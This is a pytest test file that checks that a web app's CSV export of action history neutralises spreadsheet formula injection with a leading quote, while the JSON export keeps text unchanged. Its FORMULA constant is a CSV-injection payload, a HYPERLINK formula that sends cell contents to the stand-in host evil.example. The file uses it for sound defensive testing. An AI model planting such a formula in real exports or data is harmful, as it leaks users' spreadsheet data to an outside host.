"""Exported history as CSV cannot smuggle a formula into the spreadsheet that opens it: a cell starting with
= + - @ TAB or CR gets a leading single quote (OWASP, "CSV Injection"). The JSON export keeps the text as is."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from factories import (
    TestUser,
    new_team,
    new_user,
    update_team_settings,
    update_user_settings,
)

from db.models import Contact

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


async def propose(client: httpx.AsyncClient, user: TestUser, tool: str, args: dict[str, str]) -> str:
    response = await client.post("/api/actions", headers=user.headers, json={"tool": tool, "args": args})
    assert response.status_code == 200 and response.json()["needs_confirmation"] is True, response.text
    return response.json()["pending_action_id"]


async def cancel(client: httpx.AsyncClient, user: TestUser, action_id: str, reason: str) -> None:
    response = await client.post(f"/api/actions/pending/{action_id}/cancel", headers=user.headers, json={"reason": reason})
    assert response.status_code == 200, response.text


async def exported_cancel_reason(client: httpx.AsyncClient, user: TestUser) -> str:
    response = await client.get("/api/actions/history", headers=user.headers, params={"format": "csv"})
    [row] = [row for row in csv.DictReader(io.StringIO(response.text)) if row["status"] == "cancelled"]
    return row["error_message"]


@pytest.mark.parametrize("reason", [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"])
async def test_a_cancel_reason_that_starts_like_a_formula_is_exported_with_a_leading_quote(client, ctx, reason):
    user = await new_user(ctx)
    await cancel(client, user, await propose(client, user, "send_sms", {"message": "Run"}), reason)
    assert await exported_cancel_reason(client, user) == "'" + reason


async def test_a_cancel_reason_written_by_a_team_admin_is_neutralised_in_the_members_export(client, ctx):
    team = await new_team(ctx)
    await update_team_settings(ctx, team, require_admin_approval_critical=True)
    member = await new_user(ctx, team_id=team)
    admin = await new_user(ctx, team_id=team, role="admin")
    await update_user_settings(ctx, member, allow_external_email=True)
    async with ctx.sessions() as session:
        session.add(Contact(user_id=member.id, name="Pat", email="mentor@example.org"))
        await session.commit()
    email = {"to_email": "mentor@example.org", "subject": "Progress", "body": "Ran 5k."}
    await cancel(client, admin, await propose(client, member, "send_email_to_contact", email), FORMULA)
    assert await exported_cancel_reason(client, member) == "'" + FORMULA


async def test_a_cell_that_does_not_start_like_a_formula_is_exported_as_is(client, ctx):
    user = await new_user(ctx)
    await cancel(client, user, await propose(client, user, "send_sms", {"message": "Run"}), "changed my mind = later")
    assert await exported_cancel_reason(client, user) == "changed my mind = later"


async def test_the_json_export_keeps_a_formula_like_reason_unchanged(client, ctx):
    user = await new_user(ctx)
    await cancel(client, user, await propose(client, user, "send_sms", {"message": "Run"}), FORMULA)
    response = await client.get("/api/actions/history", headers=user.headers, params={"format": "json"})
    [row] = [row for row in response.json()["history"] if row["status"] == "cancelled"]
    assert row["error_message"] == FORMULA
